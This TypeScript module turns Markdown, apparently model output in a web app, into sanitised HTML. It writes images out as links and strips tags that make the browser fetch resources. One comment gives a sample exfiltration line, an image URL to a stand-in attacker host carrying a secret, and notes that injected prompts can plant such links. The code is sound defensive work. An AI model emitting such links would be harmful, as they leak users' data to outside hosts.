// Markdown → sanitised HTML: marked for parsing, highlight.js for code
// blocks, DOMPurify (own instance, so other code's hooks do not mix in) for
// the output. Only `renderMarkdown`'s result may reach innerHTML.

import createDOMPurify, { type DOMPurify } from 'dompurify';
import { Marked, type Tokens } from 'marked';
import { escapeHtml, highlightCode } from './highlight';

const marked = new Marked({
  gfm: true,
  breaks: false,
  renderer: {
    code({ text, lang }: Tokens.Code): string {
      const language = (lang ?? '').trim().split(/\s+/)[0] ?? '';
      const body = highlightCode(text.replace(/\n$/, ''), language);
      const label = language ? `<span class="md-code-lang">${escapeHtml(language)}</span>` : '<span></span>';
      return (
        `<div class="md-code"><div class="md-code-head">${label}` +
        `<button type="button" class="md-copy" aria-label="Copy code">Copy</button></div>` +
        `<pre><code class="hljs${language ? ` language-${escapeHtml(language)}` : ''}">${body}</code></pre></div>\n`
      );
    },
    // Model output must not make the viewer's browser load anything by
    // itself: an image is written as a link the viewer may follow. Else
    // `![x](/login?token=x)` would hit ccweb's own routes with the viewer's
    // cookie, and `![x](https://evil.example/?secret)` would carry
    // whatever an injected prompt put in the address off to another host.
    image({ href, text }: Tokens.Image): string {
      const label = escapeHtml(text || href);
      return `<a class="md-image-link" href="${escapeHtml(href)}">Image: ${label}</a>`;
    },
  },
});

/** Tags whose attributes make a browser fetch something on its own. */
const LOADING_TAGS = ['img', 'picture', 'source', 'video', 'audio', 'track', 'image', 'svg'];

let purifier: DOMPurify | null = null;

function purify(): DOMPurify {
  if (purifier) return purifier;
  const p = createDOMPurify(window);
  p.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer');
    }
  });
  purifier = p;
  return p;
}

/** Sanitised HTML for a Markdown text. */
export function renderMarkdown(text: string): string {
  let html: string;
  try {
    html = marked.parse(text, { async: false }) as string;
  } catch {
    html = `<pre>${escapeHtml(text)}</pre>`;
  }
  return purify().sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ['style', 'form', 'input', 'textarea', 'select', 'iframe', 'object', 'embed', ...LOADING_TAGS],
    FORBID_ATTR: ['style'],
  });
}
